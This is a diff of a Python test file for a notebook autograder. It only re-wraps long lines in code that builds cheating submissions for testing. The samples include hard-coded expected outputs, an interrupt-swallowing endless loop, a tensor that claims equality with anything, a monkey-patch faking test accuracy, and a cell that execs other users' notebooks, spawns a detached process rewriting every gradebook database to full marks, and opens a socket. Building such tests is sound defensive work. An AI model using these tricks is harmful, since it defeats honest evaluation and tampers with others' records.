@@ -1,4 +1,5 @@
-"""Marking a class: right answers keep their marks, cheats get none, and nothing that one student hands in touches another.
+"""Marking a class: right answers keep their marks, cheats get none, and nothing that one student hands in touches
+another.
 
 The class is marked once, in one gradebook, as a teacher does it; the tests read its marks.
 """
@@ -57,7 +58,8 @@ def wrongs():
 
 
 def hard_coded():
-    """What the public check wants to see, as constants; and a helper left where the next student's kernel would read it."""
+    """What the public check wants to see, as constants; and a helper left where the next student's kernel would read
+    it."""
     x = torch.randn(12, generator=torch.Generator().manual_seed(2))
     radius = [round(float(value), 6) for value in 0.01 * (x.abs() + 1)]
     leak = (
@@ -93,7 +95,10 @@ def hindered():
 
 def endless():
     """A loop that swallows every interrupt in one answer."""
-    loop = "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        continue\n\n\n"
+    loop = (
+        "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        "
+        "continue\n\n\n"
+    )
     return edition({**REFERENCE, "subspace": loop + REFERENCE["subspace"]})
 
 
@@ -123,7 +128,8 @@ def liar():
     """Answers that claim to be equal to everything, or that look for the right one in the caller."""
     lie = (
         "class Lie(torch.Tensor):\n"
-        "    @classmethod\n    def __torch_function__(cls, f, types, args=(), kwargs=None):\n        return torch.tensor(True)\n"
+        "    @classmethod\n    def __torch_function__(cls, f, types, args=(), kwargs=None):\n        return "
+        "torch.tensor(True)\n"
         "    def __eq__(self, other):\n        return True\n    def __float__(self):\n        return 0.0\n\n\n"
     )
     look = (
@@ -138,10 +144,12 @@ def liar():
             "subspace": "def subspace_radius(x, A, eps):\n    return torch.zeros(A.shape[1]).as_subclass(Lie)",
             "slope": f"def slope(batches, noise):\n    {look}",
             "phi": f"def phi(f, x, radius, steps):\n    {look}",
-            "barrier": "class Zero:\n    def __float__(self):\n        return 0.0\n    def __rsub__(self, other):\n        return 0.0\n\n\n"
+            "barrier": "class Zero:\n    def __float__(self):\n        return 0.0\n"
+            "    def __rsub__(self, other):\n        return 0.0\n\n\n"
             "def barrier(alphas, loss):\n    return Zero()",
             "gap": "def gap(data, small, large, seeds, epochs):\n"
-            "    flatlab.train = lambda *a, **k: type('Run', (), {'history': {'test_accuracy': [1.0]}})\n    return [0.0] * 3",
+            "    flatlab.train = lambda *a, **k: type('Run', (), {'history': {'test_accuracy': [1.0]}})\n    return "
+            "[0.0] * 3",
             "line": "def line_loss(f, a, b, alphas):\n    return [f.c for _ in alphas]",
         }
     )
@@ -152,16 +160,19 @@ def thief(port):
     return with_cells(
         RELEASE,
         "import glob, json, os, subprocess, sys\n"
-        f"places = [*glob.glob('../../../s*/**/*.ipynb', recursive=True), *glob.glob('{LABS}/**/*.ipynb', recursive=True),\n"
+        f"places = [*glob.glob('../../../s*/**/*.ipynb', recursive=True), *glob.glob('{LABS}/**/*.ipynb', "
+        "recursive=True),\n"
         "          *glob.glob('/home/**/*.ipynb', recursive=True), *glob.glob('/tmp/**/*.ipynb', recursive=True)]\n"
         "for place in places:\n"
         "    for cell in json.load(open(place))['cells']:\n"
-        "        if cell['cell_type'] == 'code' and 'def ' in ''.join(cell['source']) and 'Hidden' not in ''.join(cell['source']):\n"
+        "        if cell['cell_type'] == 'code' and 'def ' in ''.join(cell['source']) and 'Hidden' not in "
+        "''.join(cell['source']):\n"
         "            exec(''.join(cell['source']), globals())\n"
         "print('found', len(places))",
         "child = '''\nimport glob, sqlite3, time\ntime.sleep(5)\n"
         "for book in glob.glob('/**/gradebook.db', recursive=True):\n"
-        "    db = sqlite3.connect(book)\n    db.execute('update grade set manual_score = 30, needs_manual_grade = 0')\n    db.commit()\n'''\n"
+        "    db = sqlite3.connect(book)\n    db.execute('update grade set manual_score = 30, needs_manual_grade = "
+        "0')\n    db.commit()\n'''\n"
         "subprocess.Popen([sys.executable, '-c', child], start_new_session=True)",
         f"import socket\nsocket.create_connection(('127.0.0.1', {port}), 2).sendall(b'the master')",
         before="extension",
